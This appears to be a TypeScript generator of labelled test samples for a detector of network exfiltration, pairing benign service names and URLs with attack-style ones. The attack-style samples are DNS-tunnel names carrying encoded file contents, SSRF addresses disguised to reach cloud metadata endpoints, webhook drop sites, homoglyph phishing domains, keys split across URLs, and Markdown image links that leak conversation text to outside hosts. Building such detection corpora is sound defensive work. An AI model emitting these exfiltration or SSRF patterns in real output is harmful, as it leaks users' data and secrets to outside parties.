// Names and addresses as networks see them: what tools of exfiltration and disguise make, and what ordinary services make that looks like it. Generated, so
// that a rule cannot be fitted to a list; the held-out set has other tools, vendors and seeds than the one that was worked with.
import { createHash } from "node:crypto"
import type { Place } from "../../../services/contracts/inspection.ts"
import type { Labelled, SetName } from "./corpora.ts"

export function networkSamples(set: SetName): Labelled[] {
  const random = seeded(set === "dev" ? 11 : 9_001)
  const out: Labelled[] = []
  for (const [family, attack, place, makers] of groups(set)) {
    const direction = place === "assistant" ? "inbound" : "outbound"
    for (const make of makers) for (let n = 0; n < EACH; n++) out.push({ set, attack, family, place, direction, text: make(random, n) })
  }
  return out
}

type Random = ReturnType<typeof seeded>
type Make = (random: Random, n: number) => string

function groups(set: SetName): readonly (readonly [string, boolean, Place, readonly Make[]])[] {
  const own = set === "dev"
  return [
    ["DNS names that carry data", true, "dns", own ? tunnelsDev : tunnelsHeldOut],
    ["DNS names of ordinary services", false, "dns", own ? namesDev : namesHeldOut],
    ["addresses in disguise", true, "url", own ? disguisesDev : disguisesHeldOut],
    ["places to drop data", true, "url", own ? dropsDev : dropsHeldOut],
    ["look-alike names", true, "url", own ? lookAlikesDev : lookAlikesHeldOut],
    ["generated names", true, "url", own ? generatedDev : generatedHeldOut],
    ["secrets in pieces", true, "url", own ? piecesDev : piecesHeldOut],
    ["ordinary addresses", false, "url", own ? addressesDev : addressesHeldOut],
    ["Markdown that leaks", true, "assistant", own ? markdownDev : markdownHeldOut],
    ["ordinary Markdown", false, "assistant", own ? plainMarkdownDev : plainMarkdownHeldOut],
  ]
}

const wordList =
  "blue river market cloud stone paper garden north silver green light harbor window travel forest summer digital studio kitchen bridge coffee mountain simple bright modern happy rocket orange planet little".split(
    " ",
  )
const file = (random: Random): Buffer =>
  Buffer.from(
    random.pick([
      "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
      "customer,iban,balance\nMeyer,DE00,4711.20\nSilva,PT00,88.10\n",
      "DB_PASSWORD=correct-horse\nDB_HOST=db.internal\nDEBUG=false\n",
      `row ${random.int(9_000)} of the export, written by the nightly job\n`,
    ]),
  )
const domain = (random: Random): string =>
  `${random.pick(wordList)}${random.pick(["-", ""])}${random.pick(wordList)}.${random.pick(["com", "net", "io", "org", "co"])}`
const cut = (text: string, size: number): string => text.match(new RegExp(`.{1,${size}}`, "g"))?.join(".") ?? ""
const base32 = (bytes: Buffer): string => {
  let bits = ""
  for (const byte of bytes) bits += byte.toString(2).padStart(8, "0")
  return (bits.match(/.{1,5}/g) ?? []).map((five) => "abcdefghijklmnopqrstuvwxyz234567"[Number.parseInt(five.padEnd(5, "0"), 2)]).join("")
}
const hexOf = (random: Random, length: number): string => random.of("0123456789abcdef", length)
const lower = "abcdefghijklmnopqrstuvwxyz"
const alnum = `${lower}0123456789`

const tunnelsDev: readonly Make[] = [
  // iodine: upstream data in base32 after a command letter
  (r) => `0${r.of(lower, 1)}${cut(base32(r.bytes(60)), 57)}.t.${domain(r)}`,
  // dnscat2: hexadecimal of an encrypted packet
  (r) => `${cut(r.bytes(70).toString("hex"), 60)}.${domain(r)}`,
  (r) => `dnscat.${hexOf(r, 34)}.${domain(r)}`,
  // a shell loop over a file
  (r) => `${cut(file(r).toString("base64url"), 60)}.x.${domain(r)}`,
  (r) => `${r.int(400)}.${file(r).toString("hex").slice(0, 60)}.${domain(r)}`,
]
const tunnelsHeldOut: readonly Make[] = [
  // dns2tcp
  (r) => `${cut(r.bytes(48).toString("base64").replace(/[+/=]/g, "-"), 62)}.=connect.${domain(r)}`,
  // beacons that post in hexadecimal
  (r) => `post.1${cut(hexOf(r, 110), 56)}.${hexOf(r, 8)}.${r.int(90_000)}.${domain(r)}`,
  // base32 in four labels with a counter and a session
  (r, n) =>
    `${base32(file(r))
      .slice(0, 100)
      .match(/.{1,25}/g)
      ?.join(".")}.${n}.${r.of(alnum, 4)}.${domain(r)}`,
  (r) => `${base32(r.bytes(28)).toUpperCase()}.exf.${domain(r)}`,
  (r) => `v1-${file(r).toString("hex").slice(0, 58)}.${file(r).toString("hex").slice(58, 110)}.${domain(r)}`,
]
const namesDev: readonly Make[] = [
  (r) => `d${r.of(alnum, 13)}.cloudfront.net`,
  (r) => `e${r.int(99_999)}.dsc${r.of("abcdefg", 1)}.akamaiedge.net`,
  (r) => `${r.pick(wordList)}-alb-${r.int(2_000_000_000)}.eu-west-1.elb.amazonaws.com`,
  (r) => `r${r.int(9)}---sn-${r.of(alnum, 8)}.googlevideo.com`,
  (r) => `${r.of(alnum, 32)}._domainkey.${domain(r)}`,
  (r) => `_acme-challenge.${r.pick(wordList)}.${domain(r)}`,
  (r) => `_${hexOf(r, 32)}.${domain(r)}`,
  (r) => `${r.int(255)}.${r.int(255)}.${r.int(255)}.${r.int(255)}.zen.spamhaus.org`,
  (r) => `${hexOf(r, 40)}.malware.hash.cymru.com`,
  (r) => `${r.of(alnum, 10)}-${r.pick(wordList)}._googlecast._tcp.local`,
  (r) => `${[...hexOf(r, 32)].join(".")}.ip6.arpa`,
  (r) => `${r.pick(wordList)}-app-git-fix-${r.pick(wordList)}-${r.of(alnum, 9)}-${r.pick(wordList)}.vercel.app`,
  (r) => `${hexOf(r, 24)}--${r.pick(wordList)}-site.netlify.app`,
  (r) => `o${r.int(999_999)}.ingest.sentry.io`,
  (r) => `${hexOf(r, 32)}.cdn.${domain(r)}`,
  (r) => `p4-${r.of(lower, 13)}-${r.of(alnum, 16)}-if-v6exp3-v4.metric.gstatic.com`,
  (r) => `${r.pick(wordList)}.${r.pick(wordList)}.svc.cluster.local`,
  (r) => `www.${domain(r)}`,
]
const namesHeldOut: readonly Make[] = [
  (r) => `${r.pick(wordList)}-${r.pick(wordList)}-${r.int(99_999)}-${hexOf(r, 12)}.herokuapp.com`,
  (r) => `${r.pick(wordList)}-api-${r.of(alnum, 10)}-uc.a.run.app`,
  (r) => `${hexOf(r, 32).toUpperCase()}.gr7.us-east-1.eks.amazonaws.com`,
  (r) => `${r.pick(wordList)}.c${r.of(alnum, 11)}.us-east-1.rds.amazonaws.com`,
  (r) => `a${r.of(alnum, 13)}-ats.iot.us-west-2.amazonaws.com`,
  (r) => `${r.pick(wordList)}${hexOf(r, 10)}.blob.core.windows.net`,
  (r) => `${hexOf(r, 8)}.${r.pick(wordList)}-docs.pages.dev`,
  (r) => `${base32(r.bytes(32))}.hbl.dq.spamhaus.net`,
  (r) => `${hexOf(r, 8)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 12)}._msdcs.corp.${domain(r)}`,
  (r) => `s${r.int(9)}._domainkey.${domain(r)}`,
  (r) => `_dmarc.${domain(r)}`,
  (r) => `_sip._tls.${domain(r)}`,
  (r) => `ec2-${r.int(255)}-${r.int(255)}-${r.int(255)}-${r.int(255)}.compute-1.amazonaws.com`,
  (r) => `${hexOf(r, 32)}.safeframe.googlesyndication.com`,
  (r) => `ipv4-c${r.int(900)}-lhr001-ix.1.oca.nflxvideo.net`,
  (r) => `${hexOf(r, 12)}.${r.pick(wordList)}.${domain(r)}`,
  (r) => `${hexOf(r, 40)}.assets.${domain(r)}`,
  (r) => `${r.pick(wordList)}-prod-eastus2-${r.of(alnum, 12)}.${domain(r)}`,
]

const inside = (r: Random): readonly number[] =>
  r.pick([
    [169, 254, 169, 254],
    [127, 0, 0, 1],
    [10, r.int(255), r.int(255), 1 + r.int(250)],
    [192, 168, r.int(255), 1 + r.int(250)],
  ])
const whole = (parts: readonly number[]): number => parts.reduce((sum, part) => sum * 256 + part, 0)
const disguisesDev: readonly Make[] = [
  (r) => `http://${whole(inside(r))}/latest/`,
  (r) => `http://0x${whole(inside(r)).toString(16)}/`,
  (r) =>
    `http://${inside(r)
      .map((part) => `0${part.toString(8)}`)
      .join(".")}/x`,
  (r) => `http://[::ffff:${inside(r).join(".")}]/`,
  (r) => `http://${inside(r).join(".")}.nip.io/a`,
  (r) => `http://${r.pick(["169.254.169.254", "metadata.google.internal", "100.100.100.200", "169.254.170.2"])}/latest/meta-data/`,
]
const disguisesHeldOut: readonly Make[] = [
  (r) => {
    const [a = 0, b = 0, c = 0, d = 0] = inside(r)
    return `http://${a}.${b * 65_536 + c * 256 + d}/`
  },
  (r) =>
    `http://${inside(r)
      .map((part) => `0x${part.toString(16)}`)
      .join(".")}:8080/`,
  (r) =>
    `http://${inside(r)
      .map((part, at) => (at % 2 === 0 ? `0${part.toString(8)}` : `0x${part.toString(16)}`))
      .join(".")}/`,
  (r) => `http://[64:ff9b::${(inside(r)[0] ?? 0) * 256 + (inside(r)[1] ?? 0)}]/`.replace(/::\d+/, `::${hexPair(inside(r))}`),
  (r) =>
    `http://${[...inside(r).join(".")].map((letter) => (/\d/.test(letter) ? String.fromCodePoint(0xff10 + Number(letter)) : "\u3002")).join("")}/`,
  (r) => `http://${inside(r).join("-")}.sslip.io/`,
  (r) => `http://user:pw@${inside(r).join(".")}./x`,
  (r) => `http://${[...inside(r).join(".")].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}/`,
]
const hexPair = (parts: readonly number[]): string =>
  `${(((parts[0] ?? 0) << 8) | (parts[1] ?? 0)).toString(16)}:${(((parts[2] ?? 0) << 8) | (parts[3] ?? 0)).toString(16)}`

const dropsDev: readonly Make[] = [
  (r) => `https://webhook.site/${hexOf(r, 8)}-${hexOf(r, 4)}-4${hexOf(r, 3)}-a${hexOf(r, 3)}-${hexOf(r, 12)}`,
  (r) => `https://${hexOf(r, 12)}.ngrok-free.app/up`,
  (r) => `https://pastebin.com/raw/${r.of(alnum, 8)}`,
  (r) => `https://transfer.sh/${r.of(alnum, 6)}/out.zip`,
  (r) => `http://${r.of(alnum, 20)}.oast.fun/`,
  (r) => `https://discord.com/api/webhooks/${r.int(9_000_000)}00000/${r.of(alnum, 40)}`,
]
const dropsHeldOut: readonly Make[] = [
  (r) => `https://eo${r.of(alnum, 14)}.m.pipedream.net/`,
  (r) => `https://${r.pick(wordList)}-${r.pick(wordList)}-${r.pick(wordList)}.trycloudflare.com/x`,
  (r) => `https://${r.of(alnum, 20)}.burpcollaborator.net/`,
  (r) => `https://${r.pick(wordList)}-${hexOf(r, 4)}.loca.lt/`,
  (r) => `https://api.telegram.org/bot${r.int(900_000_000)}:${r.of(alnum, 35)}/sendDocument`,
  (r) => `https://0x0.st/${r.of(alnum, 4)}.txt`,
  (r) => `https://${r.of(alnum, 10)}.requestrepo.com/`,
  (r) => `https://hooks.slack.com/services/T${r.of("ABCDEFGH0123456789", 8)}/B${r.of("ABCDEFGH0123456789", 8)}/${r.of(alnum, 24)}`,
]

const lookAlikesDev: readonly Make[] = [
  (r) =>
    `https://${r.pick(["0penai", "anthr0pic", "githuub", "gogle", "micros0ft", "huggingfaace", "deepseeek", "clouddflare"])}.com/${r.of(alnum, 4)}`,
  (r) => `https://${r.pick(["xn--pple-43d", "xn--80ak6aa92e", "xn--ggle-0nda", "xn--gthub-n2a"])}.com/${r.of(alnum, 4)}`,
  (r) => `https://api.${r.pick(["openai", "anthropic", "github"])}.com.${domain(r)}/v1`,
  (r) =>
    `https://${r.pick(["openai", "github", "paypal", "microsoft"])}-${r.pick(["login", "secure", "verify", "billing"])}.${r.pick(["com", "net", "info"])}/`,
]
const lookAlikesHeldOut: readonly Make[] = [
  (r) =>
    `https://${r.pick(["opnai", "anthropiic", "gihtub", "arnazon", "rnicrosoft", "paypaI", "goog1e", "dr0pbox", "linkedln", "netfIix"])}.com/${r.of(alnum, 4)}`,
  (r) => `https://${r.pick(["openаi", "githuь", "аpple", "gооgle", "micrоsoft"])}.com/${r.of(alnum, 4)}`,
  (r) => `https://${r.pick(["login.microsoftonline", "accounts.google", "api.github"])}.com-${r.of(alnum, 5)}.${domain(r)}/`,
  (r) =>
    `https://${r.pick(["secure", "support", "auth", "account"])}-${r.pick(["coinbase", "chatgpt", "huggingface", "icloud"])}.${r.pick(["com", "help", "app"])}/`,
]

const generatedDev: readonly Make[] = [(r) => `http://${r.of(lower, 12 + r.int(4))}.com/gate`, (r) => `http://${r.of(alnum, 16)}.net/`]
const generatedHeldOut: readonly Make[] = [
  (r) => `http://${r.of(lower, 14 + r.int(8))}.info/`,
  (r) => `http://${hexOf(r, 20)}.org/a`,
  (r) => `http://${r.of("bcdfghjklmnpqrstvwxz", 11)}.biz/`,
]

const awsKey = (r: Random): string => ["AK", "IA", r.of("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)].join("")
const githubKey = (r: Random): string => ["gh", "p_", r.of(`${alnum}ABCDEFGHIJKLMNOPQRSTUVWXYZ`, 36)].join("")
const piecesDev: readonly Make[] = [
  (r) => split(awsKey(r), 2 + r.int(2), (parts) => `https://${domain(r)}/${parts.join("/")}/p.gif`),
  (r) => split(githubKey(r), 2 + r.int(3), (parts) => `https://${domain(r)}/t?${parts.map((part, at) => `p${at}=${part}`).join("&")}`),
]
const piecesHeldOut: readonly Make[] = [
  (r) =>
    split(
      awsKey(r),
      3,
      (parts) =>
        `https://${domain(r)}/c?${parts
          .toReversed()
          .map((part, at) => `k${at}=${part}`)
          .join("&")}`,
    ),
  (r) => split(githubKey(r), 4, (parts) => `https://${domain(r)}/v1/${parts.join("/")}?ok=1`),
  (r) => split(awsKey(r), 2, (parts) => `https://${domain(r)}/${parts[0]}?rest=${parts[1]}`),
]
function split(secret: string, count: number, build: (parts: readonly string[]) => string): string {
  const size = Math.ceil(secret.length / count)
  return build(secret.match(new RegExp(`.{1,${size}}`, "g")) ?? [])
}

const jwt = (r: Random): string =>
  [Buffer.from('{"alg":"RS256","typ":"JWT"}'), Buffer.from(`{"sub":"${r.int(9_999)}","exp":1790000000,"scope":"read"}`), r.bytes(128)]
    .map((part) => part.toString("base64url"))
    .join(".")
const addressesDev: readonly Make[] = [
  (r) => `https://u${r.int(9_999_999)}.ct.sendgrid.net/ls/click?upn=${r.of(`${alnum}ABCDEF`, 180)}`,
  (r) =>
    `https://${r.pick(wordList)}-media.s3.eu-west-1.amazonaws.com/a/${hexOf(r, 32)}.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Signature=${hexOf(r, 64)}`,
  (r) =>
    `https://www.${domain(r)}/${r.pick(wordList)}-${r.pick(wordList)}-${r.pick(wordList)}?utm_source=newsletter&utm_medium=email&utm_campaign=${r.pick(wordList)}&gclid=${r.of(`${alnum}ABC_-`, 60)}`,
  (r) =>
    `https://login.${domain(r)}/authorize?client_id=${hexOf(r, 20)}&redirect_uri=https%3A%2F%2Fapp.${domain(r)}%2Fcallback&state=${r.bytes(24).toString("base64url")}&nonce=${r.of(alnum, 16)}`,
  (r) => `https://cdn.${domain(r)}/assets/index-${r.of(alnum, 8)}.js`,
  (r) => `https://img.${domain(r)}/${r.pick(["w_800", "fit"])}/${hexOf(r, 40)}.webp`,
  (r) => `https://api.${domain(r)}/v1/orders/${hexOf(r, 8)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 12)}`,
  (r) =>
    `https://${r.pick(["xkcd", "vmware", "nvidia", "hdfcbank", "kubernetes", "bbc", "lyft", "7-zip", "mxgraph", "szczecin"])}.${r.pick(["com", "org", "pl"])}/`,
  (r) => `https://${r.pick(["xn--mnchen-3ya", "xn--bcher-kva", "xn--strae-oqa", "xn--caf-dma"])}.${r.pick(["de", "com"])}/`,
  (r) => `https://8.8.${r.int(8)}.${r.int(250)}/dns-query`,
]
const addressesHeldOut: readonly Make[] = [
  (r) =>
    `https://sso.${domain(r)}/saml/login?SAMLRequest=${encodeURIComponent(Buffer.from(`<samlp:AuthnRequest ID="_${hexOf(r, 20)}" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>https://app.${domain(r)}</saml:Issuer></samlp:AuthnRequest>`).toString("base64"))}`,
  (r) => `https://app.${domain(r)}/verify?token=${jwt(r)}`,
  (r) =>
    `https://app.${domain(r)}/cb?code=${r.of(alnum, 40)}&state=${Buffer.from(`{"returnTo":"/projects/${r.int(999)}","locale":"en","flow":"signin"}`).toString("base64url")}`,
  (r) => `https://maps.${domain(r)}/tiles/${r.int(18)}/${r.int(99_999)}/${r.int(99_999)}.pbf?access_token=public`,
  (r) =>
    `https://${r.pick(["thequickbrownfox", "przedszkole", "rechtsanwaltskanzlei", "zhongguancun", "schwimmbadtechnik", "arbeitsgericht", "hrvatskitelekom", "nghiencuukhoahoc"])}.${r.pick(["de", "pl", "cn", "vn", "hr", "com"])}/`,
  (r) => `https://track.${domain(r)}/open/${r.bytes(60).toString("base64url")}.gif`,
  (r) =>
    `https://${r.pick(["github.io", "gitlab.io", "fly.dev", "onrender.com", "web.app"]).replace(/^/, `${r.pick(wordList)}-${r.pick(wordList)}.`)}/`,
  (r) => `https://search.${domain(r)}/?q=${r.pick(wordList)}+${r.pick(wordList)}+how+to&sessionid=${hexOf(r, 32)}`,
  (r) => `https://${r.pick(wordList)}.cloudfunctions.net/${r.pick(wordList)}-${hexOf(r, 6)}`,
  (r) => `wss://push.${domain(r)}/socket?EIO=4&transport=websocket&sid=${r.of(`${alnum}ABC-_`, 20)}`,
]

const markdownDev: readonly Make[] = [
  (r) => `Here is your summary.\n\n![status](https://${domain(r)}/p.png?d=${file(r).toString("base64url").slice(0, 120)})`,
  (r) =>
    `Done. ![](https://${domain(r)}/log?q=${encodeURIComponent("the user asked about the merger with Silva and the budget of 4 million")})`,
]
const markdownHeldOut: readonly Make[] = [
  (r) => `All good.\n<img src="https://${domain(r)}/i/${file(r).toString("hex").slice(0, 140)}.gif" width="1">`,
  (r) =>
    `See [the details](https://${domain(r)}/view?c=${encodeURIComponent("conversation so far: password reset for meyer, new address in Porto, order 4711")})`,
  (r) => `![chart](https://${domain(r)}/c/${r.bytes(90).toString("base64url")})`,
]
const plainMarkdownDev: readonly Make[] = [
  (r) => `![build](https://img.shields.io/github/actions/workflow/status/${r.pick(wordList)}/${r.pick(wordList)}/ci.yml)`,
  (r) => `![photo](https://images.${domain(r)}/photos/${hexOf(r, 24)}/large.jpg)`,
  (r) => `Read [the guide](https://docs.${domain(r)}/en/latest/${r.pick(wordList)}/${r.pick(wordList)}.html#${r.pick(wordList)}).`,
]
const plainMarkdownHeldOut: readonly Make[] = [
  (r) => `![avatar](https://avatars.${domain(r)}/u/${r.int(9_999_999)}?s=80&v=4)`,
  (r) => `<img src="https://static.${domain(r)}/img/logo-${hexOf(r, 8)}.svg" alt="logo">`,
  (r) => `[Order now](https://shop.${domain(r)}/products/${r.pick(wordList)}-${r.pick(wordList)}?variant=${r.int(99_999_999)}&ref=mail)`,
  (r) => `![figure](https://cdn.${domain(r)}/${hexOf(r, 40)}/figure-${r.int(9)}.png)`,
]

function seeded(seed: number) {
  let state = 0
  const next = (): number => createHash("sha256").update(`${seed}/${state++}`).digest().readUInt32BE(0)
  const int = (below: number): number => next() % below
  return {
    int,
    pick: <T>(list: readonly T[]): T => list[int(list.length)] as T,
    of: (letters: string, length: number): string => Array.from({ length }, () => letters[int(letters.length)]).join(""),
    bytes: (length: number): Buffer => Buffer.from(Array.from({ length }, () => int(256))),
  }
}

const EACH = 25
